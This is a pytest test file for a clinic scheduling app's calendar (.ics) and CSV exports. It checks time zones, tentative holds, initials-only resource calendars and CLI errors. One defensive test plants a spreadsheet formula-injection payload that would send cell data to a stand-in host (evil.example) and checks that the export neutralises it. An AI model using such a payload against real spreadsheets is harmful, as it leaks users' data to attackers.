"""Exports: .ics calendars parse back with the database's events and times; the CSV round-trips."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import icalendar
import pytest
from sqlalchemy import select

from ketadesk.cli import main
from ketadesk.services.booking import appointment_changes, booking
from ketadesk.services.booking.booking import BookingRequest
from ketadesk.services.common.context import SYSTEM, InvalidRequest, NotFound
from ketadesk.services.printing import export
from ketadesk.store.models import Appointment, ClinicSetting
from tests.clinic_fixtures import SmallClinic, build_small_clinic

LA = ZoneInfo("America/Los_Angeles")
NOW = dt.datetime(2027, 3, 1, 16, 0, tzinfo=dt.UTC)  # Monday 1 March 2027, 08:00 in San Diego
# Wed, Fri, Mon, Wed, Fri, Mon around the 14 March 2027 change to daylight-saving time.
INDUCTION_DAYS = [dt.date(2027, 3, d) for d in (10, 12, 15, 17, 19, 22)]
IV_A = {"room": "Room 1", "monitor": "Monitor 1", "nurse": "Nurse Kim"}
IV_B = {"room": "Room 2", "monitor": "Monitor 2", "nurse": "Nurse Kim"}
# Typed on two lines in Settings: one line in a calendar's location, the lines kept apart.
ADDRESS = "12 Harbor Way, Suite 200\nSan Diego, CA 92101"
ONE_LINE_ADDRESS = "12 Harbor Way, Suite 200, San Diego, CA 92101"


def _make_clinic(url: str) -> SmallClinic:
    c = build_small_clinic(url)
    with c.db.write() as s:
        setting = s.get(ClinicSetting, "clinic")
        assert setting is not None
        setting.value = {**setting.value, "address": ADDRESS, "phone": "619-555-0100"}
    return c


@pytest.fixture
def clinic(sqlite_url: str) -> Iterator[SmallClinic]:
    c = _make_clinic(sqlite_url)
    yield c
    c.db.dispose()


def _book_everyone(clinic: SmallClinic) -> dict[str, list[int]]:
    """Ada: an IV induction series of 6 at 10:00, the 15 March one cancelled.
    Mary: one infusion on Thursday 11 March at 13:00 in Room 2."""
    ada = booking.book(
        clinic.db,
        SYSTEM,
        BookingRequest(
            patient_id=clinic.ids["Ada Lovelace"],
            sessions=tuple(
                clinic.session("iv_infusion", day, "10:00", IV_A, index=i)
                for i, day in enumerate(INDUCTION_DAYS, start=1)
            ),
            protocol="iv_induction",
        ),
        now=NOW,
    ).appointment_ids
    appointment_changes.change_status(clinic.db, SYSTEM, ada[2], "cancel", reason="away", now=NOW)
    mary = booking.book(
        clinic.db,
        SYSTEM,
        BookingRequest(
            patient_id=clinic.ids["Mary Seacole"],
            sessions=(clinic.session("iv_infusion", dt.date(2027, 3, 11), "13:00", IV_B),),
        ),
        now=NOW,
    ).appointment_ids
    return {"ada": list(ada), "mary": list(mary)}


def _events(content: bytes) -> list[icalendar.Event]:
    cal = icalendar.Calendar.from_ical(content)
    return [e for e in cal.walk("VEVENT") if isinstance(e, icalendar.Event)]


def _appointments(clinic: SmallClinic, ids: list[int]) -> dict[int, Any]:
    """The appointments as the database has them (plain rows, not live ORM objects)."""
    with clinic.db.read() as s:
        rows = s.execute(
            select(
                Appointment.id,
                Appointment.starts_at,
                Appointment.ends_at,
                Appointment.status,
                Appointment.series_index,
            ).where(Appointment.id.in_(ids))
        ).all()
    return {row.id: row for row in rows}


# ---------------------------------------------------------------------------------------------
# A patient's calendar


def test_patient_calendar_parses_back_with_the_database_events_and_times(db_url: str) -> None:
    clinic = _make_clinic(db_url)
    try:
        ids = _book_everyone(clinic)
        content = export.patient_calendar(clinic.db, "BT-1", now=NOW)
        cal = icalendar.Calendar.from_ical(content)
        assert str(cal["prodid"]) == export.PRODID
        assert str(cal["version"]) == "2.0"
        zones = [str(tz["tzid"]) for tz in cal.walk("VTIMEZONE")]
        assert zones == ["America/Los_Angeles"]

        booked = _appointments(clinic, ids["ada"])
        live = [i for i in ids["ada"] if booked[i].status == "booked"]
        events = _events(content)
        assert [str(e["uid"]) for e in events] == [f"appointment-{i}@ketadesk" for i in live]
        for event, appt_id in zip(events, live, strict=True):
            appt = booked[appt_id]
            start, end = event.decoded("dtstart"), event.decoded("dtend")
            assert start.tzinfo is not None
            assert start == appt.starts_at
            assert end == appt.ends_at
            assert event["dtstart"].params["TZID"] == "America/Los_Angeles"
            assert str(event["summary"]) == "IV ketamine infusion at KetaDesk Clinic"
            assert str(event["location"]) == ONE_LINE_ADDRESS
            description = str(event["description"])
            assert "No food for 4 hours" in description
            assert f"Session {appt.series_index} of 6" in description
            assert "(619) 555-0100" in description  # stored "619-555-0100": the US phone format
        # The same UIDs on a second export: a calendar updates its events instead of doubling.
        again = _events(export.patient_calendar(clinic.db, "BT-1", now=NOW))
        assert [str(e["uid"]) for e in again] == [str(e["uid"]) for e in events]
    finally:
        clinic.db.dispose()


def test_sessions_stay_at_ten_oclock_local_across_the_change_to_summer_time(
    clinic: SmallClinic,
) -> None:
    _book_everyone(clinic)
    events = _events(export.patient_calendar(clinic.db, "BT-1", now=NOW))
    starts = {e.decoded("dtstart").date(): e.decoded("dtstart") for e in events}
    before, after = starts[dt.date(2027, 3, 10)], starts[dt.date(2027, 3, 17)]
    for start in (before, after):
        assert (start.astimezone(LA).hour, start.astimezone(LA).minute) == (10, 0)
    # The same wall-clock time is an hour earlier in UTC once summer time has begun.
    assert before.astimezone(dt.UTC).hour == 18
    assert after.astimezone(dt.UTC).hour == 17
    assert b"DTSTART;TZID=America/Los_Angeles:20270310T100000" in export.patient_calendar(
        clinic.db, "BT-1", now=NOW
    )


def test_patient_calendar_leaves_out_cancelled_past_and_other_patients_sessions(
    clinic: SmallClinic,
) -> None:
    ids = _book_everyone(clinic)
    days = [
        e.decoded("dtstart").date()
        for e in _events(export.patient_calendar(clinic.db, "BT-1", now=NOW))
    ]
    assert dt.date(2027, 3, 15) not in days  # cancelled
    assert dt.date(2027, 3, 11) not in days  # Mary's
    assert len(days) == 5
    missed = clinic.at(dt.date(2027, 3, 17), "10:40")  # the 17th's session, begun without her
    appointment_changes.change_status(clinic.db, SYSTEM, ids["ada"][3], "no_show", now=missed)
    # On the 17th at noon local: the 17th's session is over, only the 19th and 22nd are ahead.
    later = dt.datetime(2027, 3, 17, 19, 0, tzinfo=dt.UTC)
    days = [
        e.decoded("dtstart").date()
        for e in _events(export.patient_calendar(clinic.db, "BT-1", now=later))
    ]
    assert days == [dt.date(2027, 3, 19), dt.date(2027, 3, 22)]
    # A session under way still counts as upcoming.
    during = dt.datetime(2027, 3, 19, 17, 30, tzinfo=dt.UTC)  # 10:30 local
    days = [
        e.decoded("dtstart").date()
        for e in _events(export.patient_calendar(clinic.db, "BT-1", now=during))
    ]
    assert days == [dt.date(2027, 3, 19), dt.date(2027, 3, 22)]


def test_a_pencilled_in_session_is_a_tentative_event_that_says_so_and_its_deadline(
    clinic: SmallClinic,
) -> None:
    """Grace (screening pending) has two infusions pencilled in: one held 72 hours, one held
    for an hour.  Her calendar never shows them as confirmed; once the hour is up, the second
    is no longer hers and leaves the calendar (and the room's)."""
    held = NOW + dt.timedelta(hours=72)
    for day, until in ((dt.date(2027, 3, 10), held), (dt.date(2027, 3, 12), None)):
        booking.book(
            clinic.db,
            SYSTEM,
            BookingRequest(
                patient_id=clinic.ids["Grace Hopper"],
                sessions=(clinic.session("iv_infusion", day, "10:00", IV_A),),
                tentative=True,
                hold_until=until or NOW + dt.timedelta(hours=1),
            ),
            now=NOW,
        )
    later = NOW + dt.timedelta(hours=2)
    (event,) = _events(export.patient_calendar(clinic.db, "BT-2", now=later))
    assert event.decoded("dtstart").date() == dt.date(2027, 3, 10)
    assert str(event["status"]) == "TENTATIVE"
    assert str(event["summary"]) == (
        "Pencilled in (not confirmed): IV ketamine infusion at KetaDesk Clinic"
    )
    assert str(event["description"]).startswith(
        "Pencilled in, NOT confirmed: this time is held for you until Thu Mar 4 08:00 and is "
        "released unless the clinic confirms it by then."
    )
    (room,) = _events(
        export.resource_calendar(
            clinic.db, "Room 1", first=dt.date(2027, 3, 1), last=dt.date(2027, 3, 31), now=later
        )
    )
    assert str(room["status"]) == "TENTATIVE"
    assert str(room["summary"]) == "Pencilled in: IV ketamine infusion (G.H.)"


def test_a_patient_with_nothing_ahead_gets_an_empty_but_valid_calendar(
    clinic: SmallClinic,
) -> None:
    content = export.patient_calendar(clinic.db, "BT-4", now=NOW)
    assert _events(content) == []
    assert str(icalendar.Calendar.from_ical(content)["prodid"]) == export.PRODID


# ---------------------------------------------------------------------------------------------
# A room's or staff member's calendar


def test_resource_calendar_shows_initials_never_full_names(clinic: SmallClinic) -> None:
    ids = _book_everyone(clinic)
    for name in ("Room 1", "Nurse Kim", "Monitor 1"):
        content = export.resource_calendar(
            clinic.db, name, first=dt.date(2027, 3, 1), last=dt.date(2027, 3, 31), now=NOW
        )
        text = content.decode()
        for word in ("Ada", "Lovelace", "Mary", "Seacole", "BT-1", "BT-3"):
            assert word not in text, f"{word} in the {name} calendar"
    nurse = _events(
        export.resource_calendar(
            clinic.db, "Nurse Kim", first=dt.date(2027, 3, 1), last=dt.date(2027, 3, 31), now=NOW
        )
    )
    summaries = [str(e["summary"]) for e in nurse]
    assert summaries.count("IV ketamine infusion (A.L.)") == 5  # the cancelled one is gone
    assert summaries.count("IV ketamine infusion (M.S.)") == 1
    assert len({str(e["uid"]) for e in nurse}) == len(nurse) == 6
    # The nurse's events span her holds on that appointment, in the clinic's zone.
    booked = _appointments(clinic, ids["ada"])
    first = next(e for e in nurse if str(e["uid"]).startswith(f"appointment-{ids['ada'][0]}-"))
    appt = booked[ids["ada"][0]]
    assert appt.starts_at <= first.decoded("dtstart") < first.decoded("dtend") <= appt.ends_at
    assert first["dtstart"].params["TZID"] == "America/Los_Angeles"


def test_resource_calendar_keeps_to_its_dates_and_its_resource(clinic: SmallClinic) -> None:
    _book_everyone(clinic)
    room2 = _events(
        export.resource_calendar(
            clinic.db, "Room 2", first=dt.date(2027, 3, 1), last=dt.date(2027, 3, 31), now=NOW
        )
    )
    assert [e.decoded("dtstart").astimezone(LA).date() for e in room2] == [dt.date(2027, 3, 11)]
    room1 = _events(
        export.resource_calendar(
            clinic.db, "Room 1", first=dt.date(2027, 3, 12), last=dt.date(2027, 3, 17), now=NOW
        )
    )
    assert [e.decoded("dtstart").astimezone(LA).date() for e in room1] == [
        dt.date(2027, 3, 12),
        dt.date(2027, 3, 17),
    ]
    one_day = _events(
        export.resource_calendar(
            clinic.db, "Room 1", first=dt.date(2027, 3, 17), last=dt.date(2027, 3, 17), now=NOW
        )
    )
    assert len(one_day) == 1


# ---------------------------------------------------------------------------------------------
# CSV


def test_csv_round_trips_through_the_csv_module(clinic: SmallClinic) -> None:
    ids = _book_everyone(clinic)
    text = export.appointments_csv(clinic.db, dt.date(2027, 3, 10), dt.date(2027, 3, 15))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == export.CSV_COLUMNS
    a = ids["ada"]
    assert rows == [
        {
            "id": str(a[0]),
            "date": "2027-03-10",
            "start": "10:00",
            "end": "11:40",
            "status": "booked",
            "chart_number": "BT-1",
            "last_name": "Lovelace",
            "first_name": "Ada",
            "session_type": "iv_infusion",
            "series_index": "1",
            "series_count": "6",
            "room": "Room 1",
        },
        {
            "id": str(ids["mary"][0]),
            "date": "2027-03-11",
            "start": "13:00",
            "end": "14:40",
            "status": "booked",
            "chart_number": "BT-3",
            "last_name": "Seacole",
            "first_name": "Mary",
            "session_type": "iv_infusion",
            "series_index": "",
            "series_count": "",
            "room": "Room 2",
        },
        {
            "id": str(a[1]),
            "date": "2027-03-12",
            "start": "10:00",
            "end": "11:40",
            "status": "booked",
            "chart_number": "BT-1",
            "last_name": "Lovelace",
            "first_name": "Ada",
            "session_type": "iv_infusion",
            "series_index": "2",
            "series_count": "6",
            "room": "Room 1",
        },
        {  # the last day is included, and a cancelled session is listed as such
            "id": str(a[2]),
            "date": "2027-03-15",
            "start": "10:00",
            "end": "11:40",
            "status": "cancelled",
            "chart_number": "BT-1",
            "last_name": "Lovelace",
            "first_name": "Ada",
            "session_type": "iv_infusion",
            "series_index": "3",
            "series_count": "6",
            "room": "Room 1",
        },
    ]


def test_csv_quotes_awkward_names_and_says_when_there_is_nothing(clinic: SmallClinic) -> None:
    from ketadesk.store.models import Patient

    with clinic.db.write() as s:
        ada = s.get(Patient, clinic.ids["Ada Lovelace"])
        assert ada is not None
        ada.last_name = 'King, "Countess" of Lovelace'
    _book_everyone(clinic)
    text = export.appointments_csv(clinic.db, dt.date(2027, 3, 10), dt.date(2027, 3, 10))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["last_name"] for r in rows] == ['King, "Countess" of Lovelace']
    empty = export.appointments_csv(clinic.db, dt.date(2027, 4, 1), dt.date(2027, 4, 30))
    assert list(csv.DictReader(io.StringIO(empty, newline=""))) == []
    assert empty.splitlines() == [",".join(export.CSV_COLUMNS)]


def test_csv_cells_that_look_like_formulas_are_kept_as_text(clinic: SmallClinic) -> None:
    from ketadesk.store.models import Patient

    with clinic.db.write() as s:
        ada = s.get(Patient, clinic.ids["Ada Lovelace"])
        assert ada is not None
        ada.last_name = '=HYPERLINK("http://evil.example/?"&A1,"Lovelace")'
        ada.first_name = "@SUM(1+1)"
    _book_everyone(clinic)
    text = export.appointments_csv(clinic.db, dt.date(2027, 3, 10), dt.date(2027, 3, 10))
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["last_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Lovelace")'
    assert row["first_name"] == "'@SUM(1+1)"
    assert row["date"] == "2027-03-10"  # ordinary cells untouched
    assert export.spreadsheet_safe(-3) == -3  # a number is a number, not a formula


# ---------------------------------------------------------------------------------------------
# Bad input


def test_bad_input_is_refused_with_a_clear_message(clinic: SmallClinic) -> None:
    with pytest.raises(NotFound, match="no patient with chart number 'BT-99'"):
        export.patient_calendar(clinic.db, "BT-99", now=NOW)
    with pytest.raises(
        NotFound, match=r"no room, equipment or staff member named 'Room 9'.*Room 1"
    ):
        export.resource_calendar(
            clinic.db, "Room 9", first=dt.date(2027, 3, 1), last=dt.date(2027, 3, 2)
        )
    backwards = r"the range ends \(2027-03-01\) before it starts \(2027-03-02\)"
    with pytest.raises(InvalidRequest, match=backwards):
        export.resource_calendar(
            clinic.db, "Room 1", first=dt.date(2027, 3, 2), last=dt.date(2027, 3, 1)
        )
    with pytest.raises(InvalidRequest, match="before it starts"):
        export.appointments_csv(clinic.db, dt.date(2027, 3, 2), dt.date(2027, 3, 1))
    with pytest.raises(InvalidRequest, match="longer than"):
        export.appointments_csv(clinic.db, dt.date(2027, 1, 1), dt.date(2037, 1, 1))


# ---------------------------------------------------------------------------------------------
# The command


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def test_export_commands_write_files_and_say_how_many(
    clinic: SmallClinic, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _book_everyone(clinic)
    db = str(clinic.db.url.database)
    ics = tmp_path / "ada.ics"
    status, out, err = _run(
        capsys, "export", "ics", "--db", db, "--patient", "BT-1", "--out", str(ics),
        "--today", NOW.date().isoformat(),
    )  # fmt: skip
    assert (status, err) == (0, "")
    assert out == f"wrote 5 sessions to {ics}\n"
    assert len(_events(ics.read_bytes())) == 5

    room = tmp_path / "room1.ics"
    status, out, _ = _run(
        capsys, "export", "ics", "--db", db, "--resource", "Room 1",
        "--from", "2027-03-01", "--to", "2027-03-31", "--out", str(room),
    )  # fmt: skip
    assert (status, out) == (0, f"wrote 5 sessions to {room}\n")

    table = tmp_path / "march.csv"
    status, out, _ = _run(
        capsys, "export", "csv", "--db", db, "--from", "2027-03-01", "--to", "2027-03-31",
        "--out", str(table),
    )  # fmt: skip
    assert (status, out) == (0, f"wrote 7 sessions to {table}\n")
    with table.open(newline="", encoding="utf-8") as fh:
        assert len(list(csv.DictReader(fh))) == 7


def test_export_commands_fail_with_one_line_and_a_status(
    clinic: SmallClinic, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(clinic.db.url.database)
    out = str(tmp_path / "x.ics")
    status, _, err = _run(capsys, "export", "ics", "--db", db, "--patient", "BT-99", "--out", out)
    assert status == 1
    assert err == "ketadesk export: no patient with chart number 'BT-99'\n"
    assert not (tmp_path / "x.ics").exists()

    nowhere = str(tmp_path / "no" / "such" / "dir" / "x.ics")
    status, _, err = _run(
        capsys, "export", "ics", "--db", db, "--patient", "BT-1", "--out", nowhere
    )
    assert status == 2
    assert err.startswith("ketadesk export: cannot write ")
    assert err.count("\n") == 1

    status, _, err = _run(
        capsys, "export", "csv", "--db", db, "--from", "2027-03-01", "--to", "2027-03-02",
        "--out", str(tmp_path),
    )  # fmt: skip
    assert status == 2
    assert "is a directory" in err

    status, _, err = _run(capsys, "export", "ics", "--db", db, "--resource", "Room 1", "--out", out)
    assert status == 2
    assert "--resource needs --from" in err

    status, _, err = _run(
        capsys, "export", "csv", "--db", db, "--from", "2027-03-02", "--to", "2027-03-01",
        "--out", str(tmp_path / "x.csv"),
    )  # fmt: skip
    assert status == 1
    assert "before it starts" in err
